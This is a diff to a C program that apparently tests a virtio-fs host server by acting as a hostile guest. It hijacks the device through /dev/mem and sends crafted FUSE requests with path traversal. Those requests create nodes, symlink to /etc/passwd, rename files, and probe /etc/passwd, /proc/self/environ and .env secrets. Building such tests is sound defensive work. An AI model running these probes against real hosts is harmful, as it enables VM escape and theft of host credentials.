@@ -1,5 +1,6 @@
 // A guest root that has taken its kernel over: finds the virtio-fs device of one tag, takes it from the driver and sends file requests of its
-// own through /dev/mem, with names that no kernel would send. usage: hostileVirtiofs TAG OUTSIDE, where OUTSIDE is a directory of the host.
+// own through /dev/mem, with names that no kernel would send. usage: hostileVirtiofs TAG OUTSIDE [PREFIX], where OUTSIDE is a directory of the host
+// and PREFIX is what the names of the share's files begin with (a/).
 // Says `ASKED what: outcome` for each; an outcome is `done`, an error's name, or `no answer`.
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -25,6 +26,7 @@ static struct queue queues[2];
 static unsigned char *request, *answer;
 static uint32_t answer_length;
 static int pagemap;
+static const char *prefix = "";
 
 static uint64_t physical(void *pointer) {
     uint64_t entry = 0;
@@ -77,7 +79,22 @@ static int say(const char *what, const char *name, int outcome) {
     return outcome;
 }
 
-static struct part text(const char *name) { return (struct part){name, strlen(name) + 1}; }
+static struct part text(const char *name) {
+    static char places[4][1024];
+    static int turn;
+    char *place = places[turn++ % 4];
+    snprintf(place, sizeof places[0], "%s%s", *name == '/' ? "" : prefix, name);
+    return (struct part){place, strlen(place) + 1};
+}
+
+static struct part two(const char *first, const char *second) {
+    static char both[2048];
+    struct part one = text(first);
+    memcpy(both, one.bytes, one.length);
+    memcpy(both + one.length, second, strlen(second) + 1);
+    return (struct part){both, one.length + strlen(second) + 1};
+}
+
 static struct part nothing = {"", 0};
 
 static uint64_t look_up(const char *name) {
@@ -127,18 +144,16 @@ static void attack_node(const char *name) {
 }
 
 static void attack_directory(const char *outside) {
-    char name[512], pair[1024];
+    char name[512];
     uint32_t mode[4] = {O_RDWR | O_CREAT, 0755, 0, 0}, node_mode[4] = {S_IFCHR | 0666, (uint32_t)makedev(1, 11), 0, 0}, directory_mode[2] = {0777, 0};
     uint64_t root = FUSE_ROOT;
     snprintf(name, sizeof name, "%s/made", outside);
     say("create", name, ask(CREATE, FUSE_ROOT, (struct part){mode, 16}, text(name)));
     say("mknod", name, ask(MKNOD, FUSE_ROOT, (struct part){node_mode, 16}, text(name)));
     say("mkdir", name, ask(MKDIR, FUSE_ROOT, (struct part){directory_mode, 8}, text(name)));
-    snprintf(pair, sizeof pair, "%s%c/etc/passwd", name, 0);
-    say("symlink", name, ask(SYMLINK, FUSE_ROOT, nothing, (struct part){pair, strlen(name) + 13}));
+    say("symlink", name, ask(SYMLINK, FUSE_ROOT, nothing, two(name, "/etc/passwd")));
     snprintf(name, sizeof name, "%s/secret", outside);
-    snprintf(pair, sizeof pair, "%s%cstolen", name, 0);
-    say("rename", name, ask(RENAME, FUSE_ROOT, (struct part){&root, 8}, (struct part){pair, strlen(name) + 8}));
+    say("rename", name, ask(RENAME, FUSE_ROOT, (struct part){&root, 8}, two(name, text("stolen").bytes)));
     say("unlink", name, ask(UNLINK, FUSE_ROOT, nothing, text(name)));
 }
 
@@ -199,6 +214,7 @@ static void start_device(void) {
 int main(int count, char **words) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (count < 3) return 2;
+    if (count > 3) prefix = words[3];
     pagemap = open("/proc/self/pagemap", O_RDONLY);
     int taken = take_device(words[1]);
     if (taken) {
@@ -212,7 +228,7 @@ int main(int count, char **words) {
     if (inside) read_through("inside", inside);
     const char *outside = words[2];
     char name[512];
-    // Names with slashes do reach the server: the walls below are what holds, not its manners.
+    // Names with slashes do reach the server.
     look_up("./inside");
     look_up("..");
     snprintf(name, sizeof name, "../../../../../../../..%s/secret", outside);
@@ -221,6 +237,11 @@ int main(int count, char **words) {
     attack_node(name);
     attack_node("../outside/secret");
     attack_node("escape");
+    // What is hidden, where there is something.
+    attack_node(".env");
+    attack_node("./.env");
+    attack_node("keys/../.env");
+    attack_directory("keys");
     attack_node("/proc/self/environ");
     attack_node("/proc/self/mem");
     attack_node("/etc/passwd");
